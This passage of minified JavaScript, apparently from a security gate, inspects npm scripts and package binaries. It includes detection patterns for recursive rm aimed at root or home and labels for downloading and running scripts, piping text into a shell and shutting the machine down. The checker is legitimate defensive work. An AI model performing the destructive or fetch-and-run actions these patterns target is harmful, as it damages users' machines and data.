-l",system_shutdown:"shuts the machine down",system_reboot:"restarts the machine",remote_code_execution:"downloads a scri\
-pt and runs it",force_kill:"kills processes"},C1=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,y1=16*1024;function w1(t){if(t.
-length>y1)return"is too long to check";for(const[,s="",r=""]of t.matchAll(C1))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
-test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return rc.mass_deletion;const e=Jt(t),n=gs(e).find(({name:s})=>s!=="mass_\
-deletion");return n?rc[n.name]:b1(e)?"pipes text into a shell":void 0}function b1(t){return Qt(t).some(({pipedFrom:e,words:n})=>{
-const[s]=Qs(n);return e!==void 0&&s!==void 0&&ei(s.text)})}const mp=Vt(async t=>{const e=await qh(t,""),n=Array.isArray(
-e)?e.map(({directory:a})=>a):[],{npm:s,unread:r}=await Ut(t),i=(s?.all??[]).flatMap(({source:a})=>a.kind==="file"?xe(a.at)??
-[]:[]),o=r.length>0?await _1(t):[];return[...new Set([...n,...i,...o])].filter(a=>a!=="")});async function _1(t){const e=await zt(
-t,""),n=Ur(t,"package.json").map(({path:r})=>ie.posix.dirname(r)),s=[];for(const r of n){const i=r==="."?void 0:await zt(
-t,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}const ic=Vt(async t=>{const e=new Map;for(const n of await mp(
-t)){const s=await zt(t,n);for(const[r,i]of s?.binaries??[]){const o=ie.posix.join(n,i);e.set(ie.posix.basename(r),{file:o,
-manifest:ie.posix.join(n,"package.json")})}}return e}),gp=new Set([...yO,...`[ alias awk basename cargo chgrp chown cksu\
-m clear cmp comm cut date dd df dirname du expr fg
-  file find fmt fold gawk getopts git gzip hash hostname id install join jobs kill killall ln local
-  logname make md5sum mkdir mkfifo mktemp node nl npm npx od open paste patch pkill printf ps pwd
-  read readlink realpath rmdir rsync seq set sha256sum shift sleep sort split ssh stat stty su sum
-  sync tar tee tr trap tty type umask uname uniq unlink unzip uptime users wait watch which who
-  whoami xargs yes zip`.split(/\s+/)]),E1=new Set(["node","npm","npx","sh"]);async function k1(t,e){const{tree:n,base:s}=t,
-r=await ic(n),i=s&&await ic(s),o=[...r].flatMap(([c,{manifest:u}])=>gp.has(c)?[Cp(c,u,i?.has(c)===!0,e)]:[]),a=[];for(const c of Ys(
-t.directory)){const u=await v1(n,ie.posix.join(c,"node_modules/.bin"));for(const{name:l,path:d,isLocked:B}of u)a.push(Cp(
-l,d,B,e))}return Se([...o,...a])}function Cp(t,e,n,s){return n?E1.has(t)?ue("program-replaced",s,{name:t,path:e},"warnin\
-g"):$e:ue("program-replaced",s,{name:t,path:e})}const v1=zs(async(t,e)=>{const n=[];for(const{path:s}of t.list(e)){const r=ie.
-posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!gp.has(r))continue;const i=Ve(t,s);if(i.kind!=="inside")continue;
-const o=i.path===s?await D1(t,i.entry):i.path,a=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);n.push({name:r,path:s,isLocked:a&&
-!i.entry.tracked})}return n});async function D1(t,{path:e,size:n=0}){if(n>x1)return;const s=(await t.read(e)).toString("\
-utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&ie.posix.join(ie.posix.dirname(e),r)}const x1=16*1024,
-yp=/^(?:[/~\\]|[A-Za-z]:)/;class Yc{#e;#t;constructor(e,n){this.#e=e,this.#t=n}into(e){const s=e===void 0||yp.test(e)||/[$`]/.
-test(e)?[]:this.#t.map(r=>ie.posix.join(r,e));return new Yc(this.#e,s)}find(e,n=[""]){if(!(/^[/~]/.test(e)||e===""||!this.#e))
-for(const s of this.#t)for(const r of n){const i=xe(ie.posix.join(s,e.replaceAll("\\","/"))+r),o=i===void 0?void 0:Ve(this.#e,
-i);if(o?.kind==="inside"&&lt(o.entry.kind)&&o.entry.tracked)return o.path}}script(e,n){const s=this.find(e,n);if(s!==void 0)
-return{kind:"file",name:s};if(yp.test(e))return{kind:"outside",name:e};const[r]=this.#t;if(r===void 0)return{kind:"unrea\
-d",name:`it runs ${e} in another directory`};const i=xe(ie.posix.join(r,e));return i===void 0?{kind:"outside",name:e}:{kind:this.#e===
-void 0?"file":"missing",name:i||"."}}named(e,n){const s=this.find(e.replace(/^-{1,2}[\w-]+=/,""),n);return s===void 0?[]:
-[{kind:"file",name:s}]}async manifest(){const e=this.find("package.json");return this.#e&&e?gt(await ps(this.#e,e)):{}}}
-var O1=Te(298);const wp={selected:!1,runs:[],packages:[],problems:[]};function oc({body:t,words:e}){return[t,...e.map(({
-text:n})=>Dp(n))].join(" ")}async function bp(t,e,n){const s=Wa(t),r=kp(t);if(s.informs||r===void 0)return wp;const i=h=>TT(
-s,h,n),o=await i(e);if("problems"in o)return{...wp,problems:o.problems};const{project:a,selected:c,directories:u}=o,l=s.
-ignoreScripts??await S1({...e,directory:a}),d=[],B=[...o.missing,...await A1(o,e,n,i)];let f=!1;for(const h of u){const m=await qs(
-e.tree,h);if(m===Xt){const g=ie.posix.join(h,"package.json");B.push(...ue("package-json-invalid",n,{path:g}).problems)}else if(m===
-void 0)B.push(...ue("package-json-missing",n,{directory:h}).problems);else if(m.scripts.has(r)){const g={event:r,words:t.
-passthrough},C=vp(m,h,g,{ignoreScripts:l});d.push(...C),B.push(..._p(C,r,{...e,directory:h},n))}else f=!0}if(f){const h={
-script:r,passes:s.ifPresent},m=s.ifPresent&&d.length===0&&e.via===void 0,g=r==="start"||m;B.push(be("npm-script-missing",
-n,h,g?"error":void 0))}return{project:a,selected:c,runs:d,packages:u,problems:B}}async function A1({project:t,directories:e},{
-base:n,...s},r,i){const o=ie.posix.join(t,"package.json");if(n===void 0||!s.changed.has(o))return[];const a=await i({...s,
-tree:n});if("problems"in a)return[];const c=a.directories.filter(u=>!e.includes(u));return c.length===0?[]:[be("workspac\
-es-changed",r,{path:o,lost:c})]}function _p(t,e,{via:n,directory:s},r){if(t.some(({event:o,body:a})=>o===e&&!Ep(a)))return[];
-const i={script:e,path:ie.posix.join(s,"package.json")};return[be("npm-script-empty",r,i,n===void 0?"error":"warning")]}
-function Ep(t){return t.split(`
-`).every(e=>/^\s*(?:#|$)/.test(e))}async function S1(t){const e=await hs(t);return"settings"in e&&e.settings["ignore-scr\
-ipts"]===!0}function kp({subcommand:t,operands:e}){switch(t){case"run":return e[0]?.text;case"test":case"start":case"sto\
-p":return t;default:return}}function vp({scripts:t},e,{event:n,words:s},{ignoreScripts:r}={}){return(r?[n]:[`pre${n}`,n,
-`post${n}`]).flatMap(o=>{const a=t.get(o);return a?[{directory:e,event:o,body:a,words:o===n?s:[]}]:[]})}const T1=/[\t\n\r "#$&'()*;<>?\\`|~]/;
-function Dp(t){return t===""?"''":T1.test(t)?`'${t.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
-''","\\'"):t}function I1(t,e){const n=Jt(t,e);if(n.length===0&&!Ep(t))return{commands:n,fault:{part:"the script",why:"ca\
-nnot be read"}};const s=un(t).problems.find(({rule:r})=>r==="shell-comment");if(s&&n.length>0){const r=t.slice(s.span.start,
-s.span.end);return{commands:n,fault:{part:r,why:"hides the words behind it"}}}for(const[r,i]of n.entries()){const o=r===
-n.length-1,a=N1(i,t)??$1(i,o);if(a!==void 0)return{commands:n,fault:a}}return{commands:n}}function $1({separator:t},e){const n=t.
-trim();if(!(e?n==="":n==="&&"))return{part:n===""?"a line break":n,why:R1}}const R1="joins commands in another way than \
-`&&`";function N1(t,e){const{words:n,redirections:s,inside:r,subshell:i,defines:o,problems:a,assignments:c}=t,u=e.slice(
-t.span.start,t.span.end).trim(),l=(m,g)=>({part:m,why:g});if(i)return l(u,"runs in a subshell");if(o)return l(u,"defines\
- a function");if(r.length>0)return l(u,"runs a command to make a word");const[d]=s;if(d)return l(`${d.operator} ${d.target?.
-text??""}`,"redirects input or output");const B=c.find(({name:m,value:g})=>!la(m,g));if(B)return l(`${B.name}=`,"sets a \
-variable that can choose the code that runs");const f=n.find(m=>yi(t,m)&&!F1(t,m,e));if(f){const{start:m,end:g}=f.span;return l(
-e.slice(m,g),"is only known when the script runs")}const h=a.find(m=>!L1(m,n));if(h){const{start:m,end:g}=h.span;return l(
-e.slice(m,g).trim()||u,"is syntax of a shell")}return n.length===0?l(u,"starts no program"):P1(n)}function F1({problems:t},{
-span:e},n){return t.every(s=>s.rule!=="variable-expansion"||s.span.end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.
-test(n.slice(s.span.start,s.span.end)))}function L1({rule:t,span:e,severity:n},s){if(t==="variable-expansion"||n==="warn\
-ing")return!0;if(t!=="brace-expansion")return!1;const r=s.find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&
-Vs(r.text)?.every(i=>!i.startsWith("-"))===!0}function P1(t){const[e]=t,n=e?.text??"";if(pa(n)&&!e?.quoted)return{part:n,
-why:"is a word of the shell"};const s=Qs(t);if(!xp(n))return s.length<t.length||at(n)?.kind==="wrapper"?{part:n,why:"dec\
-ides how another program runs"}:wi(s)&&n!=="node"?{part:n,why:"runs text as code"}:void 0}function xp(t){const e=at(t);return e?.
-name===t&&e.wraps==="as-tool"}const ac={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,
-from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},j1=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
-function M1([t,...e]){if(t?.text==="shx"){const[n]=e;return n&&(n.text==="echo"||Object.hasOwn(ac,n.text))?e:void 0}return t&&
-Object.hasOwn(ac,t.text)?[t,...e]:void 0}async function G1([t,...e],n){const s=t?.text??"",r=ac[s];if(r===void 0)return;
-const i=e.find(({text:a})=>a.startsWith("-")&&!r.flags.test(a));if(i)return{part:`${s} ${i.text}`,why:"has a flag that i\
-s not known"};const o=e.flatMap(({text:a})=>a.startsWith("-")?[]:[a]);if(o.length<(r.from<0?2:1))return{part:s,why:"name\
-s no path"};for(const a of o.slice(r.from)){const c=await H1(a,n);if(c!==void 0)return{part:`${s} \u2026 ${a}`,why:c}}}async function H1(t,e){
-const{tree:n,isOutput:s}=e,r=t.startsWith("/")?void 0:xe(ct(e,t));if(r===void 0||r==="")return"writes outside of the bui\
-ld outputs";if(/[*?[\]{}!$~\\]/.test(t))return"writes to a path that the text does not show";if(j1.test(r))return"writes\
- to a directory of dependencies";if($S(r)!==void 0)return"writes a configuration file";const i=n.stat(r);if(i?.tracked&&
-i.kind!=="directory")return"writes a file of the commit";const o=`${r}/`;if(i?.tracked&&[...n.files()].some(c=>c.path.startsWith(
-o)))return"writes to a directory of the commit";if(!(s?.(r)||(await z1(n))(r)))return"writes to a path that git does not\
- ignore and `build_outputs` does not name"}const z1=Vt(async t=>{const e=new Map;for(const{path:n}of t.files()){if(ie.posix.
-basename(n)!==".gitignore")continue;const s=await fi(t,n,U1),r=ie.posix.dirname(n).replace(/^\.$/,"");s&&"text"in s&&e.set(
-r,O1().add(s.text))}return n=>{const s=n.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
-"/")),a=s.slice(i).join("/"),c=o?.test(a),u=o?.test(`${a}/`);c?.ignored||u?.ignored?r=!0:(c?.unignored||u?.unignored)&&(r=
-!1)}return r}}),U1=256*1024,J1=4,Z1={kind:"download",name:"it runs what it downloads"};async function K1(t,e,n=0){if(n>J1)
-return[{kind:"unread",name:"it is nested too deeply"}];const s=Jt(t);return s.length===0&&t.trim()!==""?[{kind:"unread",
-name:"it is too long"}]:[...gs(s).some(({name:i})=>i==="remote_code_execution")?[Z1]:[],...await Op(s,t,e,n)]}async function Op(t,e,n,s){
-const r=[];let i=n;for(const o of t){if(r.push(...await Op(o.inside,e,i,s)),o.subshell!==void 0)continue;if(o.defines){r.
-push({kind:"unread",name:"it defines a function"});continue}const{words:a,assignments:c}=tc(o),u=a.map(B=>({...B,shown:e.
-slice(B.span.start,B.span.end),isKnown:!yi(o,B)}));r.push(...W1(c.map(({value:B})=>B),i));const[l,d]=u;l?.text==="cd"||l?.
-text==="pushd"?i=i.into(d?.isKnown?d.text:void 0):r.push(...await Ap(u,i,s))}return r}function Ap(t,e,n=0){return Sp(t,{
-files:e,shell:(r,i=e)=>K1(r,i,n+1)})}function W1(t,e){return t.flatMap(n=>n.split(/[\s=:,]+/)).flatMap(n=>e.named(n))}async function Sp(t,e){
-const n=Qs(t),[s,...r]=n;if(s===void 0||q1(s.text))return[];if(!s.isKnown)return[cc(`it starts ${s.shown}`)];const i=at(
-s.text)??{name:Zs(s.text),kind:"system"},o=wi(n);if(i.kind==="shell"&&o)return o.words.every(({isKnown:C})=>C)||/\s/.test(
-o.text)?e.shell(o.text):[cc("a shell runs what it is handed")];const a=r.some(({text:g})=>lc(g)||uc(g));if(ti(s.text)&&(a||
-!i.runsScripts))return Y1(Zs(s.text),r,o!==void 0,e.files);const{files:c,left:u}=V1(r,e.files),l=u.map(({text:g})=>g),B=lc(
-s.text)&&!eI.test(s.text)?[e.files.script(s.text)]:await X1(i,l,{...e,files:c}),f=l.filter(uc).flatMap(g=>{const C=c.named(
-g);return C.length>0?C:e.files.named(g)}),h=i.runsInside?u.findIndex(({text:g})=>ti(g)):-1,m=h<0?[]:await Sp(u.slice(h),
-{...e,files:c});return[...B,...m,...f]}function q1(t){return ha(t)||pa(t)&&at(t)===void 0}function cc(t){return{kind:"un\
-read",name:t}}const Tp=/^(?:-C|--(?:cwd|dir|directory|prefix|workspace))(?:=(.*))?$/s;function V1(t,e){const n=t.findIndex(
-({text:i})=>Tp.test(i));if(n<0)return{files:e,left:t};const s=Tp.exec(t[n]?.text??"")?.[1],r=t.toSpliced(n,s===void 0?2:
-1);return{files:e.into(s??t[n+1]?.text),left:r}}function Y1(t,e,n,s){const r=e.flatMap(({text:l})=>s.named(l));if(n)return[
-{kind:"inline",name:t},...r];const i=e.filter(({text:l})=>!l.startsWith("-")),o=i.find(({text:l})=>lc(l)||uc(l))??i[0],a={
-kind:"program",name:t};if(r.length>0||o===void 0)return r.length>0?r:[a];const{text:c}=o;if(!o.isKnown)return[cc(`it run\
-s ${o.shown}`)];if(/^\w{2,}:/.test(c))return[{kind:"package",name:c,isExact:/@v?\d+\.\d+/.test(c)}];if(e[e.indexOf(o)-1]?.
-text!=="-m")return[s.script(c,$p)];const u=s.named(c.replaceAll(".","/"),$p);return u.length>0?u:[a]}async function X1(t,e,{
-files:n,shell:s}){const r=await n.manifest(),i=t.runsScripts&&tI(e),o=nI(i).flatMap(l=>{const d=Yt(gt(r.scripts),l);return d===
-""?[]:[{kind:"npm_script",name:l,text:d}]}),a=await Promise.all(o.map(({text:l=""})=>s(l,n))),u=o.length>0&&!Ip.test(i??
-"")?[]:Q1(t,e,r,n);return[...o,...a.flat(),...u]}function Q1(t,e,n,s){const{name:r,finds:i=""}=t,o=i.split(" ").flatMap(
-B=>s.named(B));if(o.length>0)return o;const a=iI(t,e);if(a===void 0)return[{kind:"program",name:r}];const c=s.named(a.name);
-if(c.length>0||/^[./]/.test(a.name))return c.length>0?c:[{kind:"program",name:r}];const{dependencies:u,devDependencies:l}=n;
-return[[u,l].some(B=>a.name in gt(B))?{kind:"program",name:a.name}:{kind:"package",...a}]}const eI=/^\/(?:usr\/(?:local\/)?|opt\/homebrew\/)?s?bin\/[^/]+$/;
-function uc(t){return Ra(t)||/\.(?:exe|jar)$/i.test(t)}function lc(t){return/^[.~]{0,2}[\\/]|^[A-Za-z]:[\\/]|^[\w.@-]+[\\/]/.
-test(t)&&!t.includes("://")}function tI(t){const[e,n]=t.filter(s=>!s.startsWith("-"));return e==="run"||e==="run-script"?
-n:e}const Ip=/^(?:add|ci|clean-install|i|install)$/;function nI(t){if(t===void 0)return[];const e=n=>[`pre${n}`,n,`post${n}`];
-return Ip.test(t)?[...new Set([t,"install","prepare"].flatMap(e)),"prepublish"]:e(t)}const $p=["",".js",".mjs",".cjs",".\
-ts","/index.js",".py","/__main__.py","/__init__.py"],sI=/^(?:-[celuvw]|--(?:add-host|call|directory|entrypoint|env|env-file|index-url|label|mount|name|network|platform|prefix|publish|python|registry|user|volume|with|workdir|workspace))$/,
-rI=/.@v?\d+\.\d+\.\d+[\w.+-]*$|==\d+(?:\.\d+)+\w*$|@sha256:[0-9a-f]{64}$|[#@][0-9a-f]{40}$/;function iI({fetches:t},e){const n=e.
-filter(o=>!o.startsWith("-")),s=[2,1,0].find(o=>o<=n.length&&t?.test(n.slice(0,o).join(" ")));if(s===void 0)return;const r=s===
-0?0:e.indexOf(n[s-1]??"")+1,i=e.slice(r).map(o=>o.replace(/^--(?:from|package)=/,"")).find((o,a,c)=>!/^(?:-|[\d.:]+\w?$)/.
-test(o)&&!sI.test(c[a-1]??""));return i===void 0?void 0:{name:i,isExact:rI.test(i)}}async function oI({body:t,words:e,span:n},s,r){
-const i=I1(t,jn(s.tree,s.directory)),o=i.fault?Qt(i.commands).map(tc):i.commands,a=[];let{fault:c}=i,u=s;for(const[B,f]of o.
-entries()){const h=!c||f.words.every(D=>!yi(f,D)),m=B===o.length-1&&!i.fault,g=[...f.words.map(D=>({...D,span:n})),...m?
-e:[]],[C,b]=g;if(C?.text==="cd"){const D=b&&xe(ct(u,b.text));(B>0||g.length!==2||D===void 0)&&(c??={part:"cd",why:"chang\
-es the directory in the middle, or leaves the repository"}),u={...u,directory:D??u.directory};continue}const y=M1(g);y&&
-(c??=await G1(y,u)),!(y||C===void 0||!h||ha(C.text))&&a.push(await uI(g,u,r))}const l=o.some(({words:B})=>aI.test(B.map(
-({text:f})=>f).join(" "))),d=!c&&a.length===0&&o.length>0&&!l;return{parts:a,isIdle:d,...c&&{fault:c}}}const aI=/^(?:\[|exit (?!0$)|false|test )/,
-cI=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function uI(t,e,n){const s=xp(t[0]?.text??"")?t:Qs(t),[r,...i]=s;if(r===
-void 0)return $e;const{families:o}=e,a=fs(r.text)?r.text:o?.allowed.get(r.text),c=cI.exec(r.text)?.[1]??r.text,u=t[0]===
-r?void 0:t[0],l=u?dc(u):$e;if(a===void 0&&/[\\/]/.test(c))return Se([l,await Rp(s,e)]);const{invocation:d,problems:B}=a?
-Ta(a,i,o):Ta("npx",[{...r,text:c},...i],o),f=await n.resolve(d,e),h=a===void 0&&f.problems.some(({rule:C})=>C==="binary-\
-missing");if(h&&ia(c,o?.tools)!==void 0)return Se([l,dc(r),{targets:[],problems:B}]);if(h)return Se([l,await Rp(s,e)]);const g=Zh(
-d,e.directory);return Se([l,{targets:[],problems:[...B,...g]},f])}function dc({text:t,span:e}){return ue("program-not-al\
-lowed",e,{program:t,group:"other"})}async function Rp(t,e){const[n]=t;if(n===void 0)return $e;const s=t.find(({text:i,span:o})=>o.
-start!==n.span.start&&(i.startsWith("-")||at(n.text))),r=s?ue("npm-script-form",s.span,{script:e.via??"",text:t.map(({text:i})=>i).
-join(" "),part:n.text,why:"is a program that the gate does not read",words:[s.text]}):$e;return Se([dc(n),r,await lI(t,e)])}
-async function lI(t,e){const n=new Yc(e.tree,[e.directory]),s=t.map(c=>({...c,shown:c.text,isKnown:!0})),i=(await Ap(s,n)).
-flatMap(({kind:c,name:u})=>c==="file"?[u]:[]),o=t[0]?.span??{start:0,end:0},a={...e,directory:""};return Se(i.map(c=>Ma(
-a,{text:c,span:o})))}function dI(t,e,n){const s=Qt(Jt(t)),r=s.some(B=>B.substituted.length>0||[...B.words,...B.assignments].
-some(f=>yi(B,f))),i=[...new Set(t.split(BI).filter(B=>B!==""))],o=[e.directory];for(const{words:B}of s){const[f,h]=B;if(!(!/^(?:cd|pushd)$/.
-test(f?.text??"")||h===void 0)&&(o.push(...o.flatMap(m=>xe(ie.posix.join(m,h.text))??[])),o.length>fI))break}const a=[...e.
-changed],c=[...new Set(o)].flatMap(B=>i.map(f=>{const h={...e,directory:B},m=xe(ie.posix.join(B,f));if(m===void 0)return $e;
-const g=Ve(e.tree,m);if(g.kind==="inside"&&lt(g.entry.kind))return Ma(h,{text:f,span:n});const C=a.filter(b=>/[*?[]/.test(
-f)?mi(b,m,{dot:!0}):g.kind==="inside"&&m!==""&&vt(b,m));return Se(C.map(b=>ue("target-changed",n,{path:b})))})),u=r?a.filter(
-Ra):[],{targets:l,problems:d}=Se([...c,...u.map(B=>ue("target-changed",n,{path:B}))]);return{targets:[...new Map(l.map(B=>[
-B.path,B])).values()],problems:[...new Map(d.map(B=>[JSON.stringify(B.args),B])).values()]}}const BI=/[\s"'`;&|()<>=:,{}]+/,
-fI=16;function hI(t,e,n,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,`${oc(e)}\0${o.length}`,()=>mI(
-t,e,n,s),a=>pI(a,i,n))}async function Np(t,e,n,s){const r=e.length>0?[await k1(t,n)]:[];for(const i of e)r.push(await hI(
-t,i,n,s));return Se([...r,Fp(t,n)])}function Fp({directory:t,changed:e},n){const s=ie.posix.join(t,"package.json");return e.
-has(s)?ue("target-changed",n,{path:s}):$e}function pI(t,e,n){return t.why==="cycle"?ue("npm-script-cycle",n,{script:e}):
-ue("npm-script-chain",n,{script:e,limit:t.limit,what:t.why})}async function mI(t,e,n,s){const{event:r,body:i,words:o}=e,
-a=oc(e),c={targets:[Bi(t,{kind:"npm_script",name:r,script:a})],problems:[]},u=w1(a);if(u!==void 0)return Se([c,ue("npm-s\
-cript-dangerous",n,{script:r,text:a,danger:u})]);const l={...t,via:r},{parts:d,fault:B,isIdle:f}=await oI({body:i,words:o,
-span:n},l,s),h=await gI(t,e),m=[c];let g=B!==void 0;for(const{problems:C,targets:b}of d){const{kept:y,refused:D}=yI(C,o);
-if(m.push({targets:b,problems:y.map(wI(h))}),D===void 0)continue;const O=Pp(D)&&!Lp(D);g||=O;const v=O&&!h?"error":void 0,
-I={script:r,text:a,reason:D.rule};B||m.push(ue("npm-script-text",n,I,v))}if(f&&m.push(ue("only-prints",n,{program:"npm",
-flag:`run ${r}`})),B===void 0)m.push(CI(o));else{const C=h&&o.length===0?"notice":void 0,b={script:r,text:a,...B,words:o.
-map(y=>y.text)};m.push(ue("npm-script-form",o[0]?.span??n,b,C))}return g&&h&&m.push(dI(i,l,n)),Se(m)}async function gI({
-base:t,directory:e,changed:n},{event:s,body:r}){return(t&&(await zt(t,e))?.scripts.get(s))===r&&(!n.has(ct({directory:e},
-"package.json"))||!/npm_/.test(r))}function CI(t){const e=t.flatMap(n=>$f(un(`x ${Dp(n.text)}`).problems).map(s=>({...s,
-span:n.span})));return{targets:[],problems:e}}function yI(t,e){const n=({span:o})=>e.some(a=>bI(a.span,o)),s=t.filter(o=>n(
-o)||EI(o)),r=t.filter(o=>!s.includes(o)),i=r.filter(Pp);return{kept:s,refused:i.find(o=>!Lp(o))??i[0]??r[0]}}function Lp({
-rule:t}){return t==="program-not-allowed"}function wI(t){return e=>t&&e.rule==="tool-unknown"?{...e,severity:"notice"}:e}
-function bI(t,e){return t.start<e.end&&t.end>e.start}function Pp({severity:t}){return t==="error"}const _I=new Set(["bui\
-ld-files-unread","dependency-not-compared","dependency-redirected","target-changed","target-writes","not-installed","onl\
-y-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function EI({rule:t,args:e}){return t==="dependency-unv\
-erified"?"fault"in e&&["removed","stale"].includes(e.fault):_I.has(t)||t.startsWith("npm-script-")||t.startsWith("npmrc-")}
-const kI=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(t=>`.${t}`)];async function vI(t,e){return jp(
-t.tool??{files:[],roots:[],nodeFlags:[]},e)}function DI({files:t=[],flags:e,family:n},s){const r=e.flatMap(({name:i,value:o})=>o&&
-n&&yf(n,i)?o:[]);return jp({files:t,roots:r,nodeFlags:[]},s)}async function jp({files:t,roots:e,nodeFlags:n},s){const r=[
-"",...e].flatMap(o=>{const a=xe(ct(s,o));return a===void 0?[]:[a]}),i=[];for(const o of t)i.push(o.as==="tests"?await AI(
-o,s):await xI(o,[...new Set(r)],s));for(const o of n)i.push(await ap(o,s));return Se(i)}async function xI(t,e,n){const{as:s,
-path:r,span:i}=t,o=ln(r,i,n.directory);if(o!==void 0)return{targets:[],problems:[o]};const a=[];for(const c of e){const u=xe(
-ie.posix.join(c,r));if(u===void 0)continue;const l=await OI(t,u,n);l!==void 0&&a.push(l)}return a.length>0?Se(a):s==="co\
-de"||s==="config"?Pa(n.tree,ie.posix.join(n.directory,r),r,i):s==="module"&&t.first?cp(n,r,i):$e}async function OI(t,e,n){
-const{as:s,path:r,span:i}=t,{tree:o}=n,a=ip(o,s==="place"?[e]:kI.map(u=>e+u));if(a===void 0)return;const c=a.kind==="ins\
-ide"&&!lt(a.entry.kind);if(s==="place"&&a.kind==="inside")return $e;if(!c)return Bc(t,e,a,n);if(s==="config"){const u=Ve(
-o,ie.posix.join(a.path,"tsconfig.json"));return u.kind==="missing"?$e:Bc(t,e,u,n)}return op(n,{path:r,wanted:e},i,u=>Bc(
-t,e,u.found,n))}async function Bc({as:t,path:e,span:n,ifFile:s},r,i,o){const a=await Qa(o,{path:e,wanted:r,found:i},n);return t===
-"module"&&s&&a.targets.length>0?Se([{targets:[],problems:[s]},a]):a}function AI({path:t,span:e},n){return sp(n,t,e,async s=>s.
-found.kind==="inside"&&lt(s.found.entry.kind)?Qa(n,s,e):$e)}async function SI(t,e,n){const{subcommand:s,operands:r,flags:i}=t,
-[o]=r,a=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?$e:fc(e,t,o);const{project:c,selected:u,runs:l,
-packages:d,problems:B}=await bp(t,e,a);if(c===void 0)return{targets:[],problems:B};const f=[await Ha({...e,directory:c},
-a)];for(const h of d){const m=l.filter(g=>g.directory===h);f.push(await Np({...e,directory:h},m,a,n))}return u&&!d.includes(
-c)&&f.push(Fp({...e,directory:c},a)),Se([...f,{targets:[],problems:B}])}async function fc(t,e,{text:n,span:s}){if(!Ks(n))
-return $e;const r=e.starts==="file",i=r?$e:await ep(t,a=>TI(a,n,s));if(!r&&i.targets.length===0)return i;const o=await vI(
-e,t);return Se([i,qr(n)?$e:ue("tool-unknown",s,{tool:n}),o])}async function TI(t,e,n){const{tree:s}=t,r=await qs(s,""),i=(await ic(
-s)).get(e);if(i!==void 0&&t.via!==void 0&&s.stat("node_modules")===void 0)return Ma(t,{text:i.file,span:n});if(r===Xt)return ue(
-"package-json-invalid",n,{path:"package.json"});if(r?.binaries.has(e))return ue("binary-shadowed",n,{name:e,path:r.path});
-const o=ct(t,`node_modules/.bin/${e}`);if(t.directory!==""&&s.stat(o)!==void 0)return ue("dependency-unverified",n,{name:e,
-path:o,fault:"elsewhere"});const a=s.stat("node_modules");if(a===void 0)return LI(t,r,e,n);const c=await NI(s,e),u=s.stat(
-c),l=Ve(s,c);if(u===void 0||l.kind==="missing")return ue("binary-missing",n,{name:e});if(l.kind!=="inside")return ue("ta\
-rget-outside",n,{path:c,reason:"symlink"});const d=ms(l.path),B=a.tracked||u.tracked,f=!B&&l.entry.tracked&&await $I(s,l.
-path);if(d===void 0&&!f||!lt(l.entry.kind))return ue("dependency-unverified",n,{name:e,path:l.path,fault:"elsewhere"});if(!f&&
-(B||l.entry.tracked)){const g={name:d??e,path:l.path,fault:"committed"};return ue("dependency-unverified",n,g)}const h=f?
-await qa(t,RI(s,c)??e,n):await II(t,e,l.path,n);if(h.some(Va))return{targets:[],problems:h};if(!await FI(s,l.path))return ue(
-"binary-not-node",n,{name:e,path:l.path});f&&t.changed.has(l.path)&&h.push(be("target-changed",n,{path:l.path}));const m={
-kind:"package_binary",name:e,path:l.path};return{targets:[Bi(t,m)],problems:h}}async function II(t,e,n,s){const r=ms(n)??
-e,i=n.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},a=await Xs(t,{name:r,path:n,binary:o},
-s);return r===e||!(await Ut(t.tree)).npm?.packages.has(e)?a:[...a,...await qa(t,e,s)]}async function $I(t,e){return(await mp(
-t)).some(n=>vt(e,n))}function RI(t,e){return ms(ie.posix.join(ie.posix.dirname(e),t.readlink(e)??""))}async function NI(t,e){
-const n=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return n;const s=await zt(t,`node_modules/${e}`);if(s===void 0)return n;
-const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function FI(t,e){
-return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await PS(t,e))}async function LI(t,e,n,s){const r=await PT(t.tree,n,e?.
-dependencies??new Set);if(r===void 0)return ue("binary-missing",s,{name:n});const i={kind:"package_binary",name:n},o=await Xs(
-t,{name:r,path:n},s);return{targets:[Bi(t,i)],problems:[t.tree.isPending?.("node_modules")?be("target-not-judged",s,{path:n}):
-be("not-installed",s,{name:n}),...o]}}async function Mp(t,e,n,s){const{subcommand:r,operands:i,flags:o}=t,[a]=i;if(a===void 0)
-return $e;const{text:c,span:u}=a,l=Se([await Ha({...n,directory:""},u),n.directory===""?$e:await Ha(n,u)]),d=fs(c)||n.families?.
-allowed.has(c)===!0,B={...t,subcommand:"exec"};if(r==="exec")return Se([l,d?$e:await fc(n,B,a)]);const f=await PI(n,Hp(t,
-e),u);if("problems"in f)return Se([l,f]);const h=f.filter(({manifest:C})=>C.scripts.has(c));if(h.length>0){const C=h.map(
